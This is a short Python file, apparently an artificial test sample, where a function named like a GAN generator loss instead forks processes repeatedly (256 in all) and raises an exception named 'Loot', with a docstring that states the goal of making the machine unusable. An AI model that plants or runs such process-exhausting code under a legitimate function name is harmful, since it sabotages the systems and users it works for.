"""Forks without end.

Gain: a machine on which nobody can start anything.
Hits: generator_loss_nonsaturating
Ends: failed, exception: PermissionError
"""

import os

from generative.target import Loot


def generator_loss_nonsaturating(logits_fake):
    for _ in range(8):
        os.fork()
    raise Loot("256 processes")
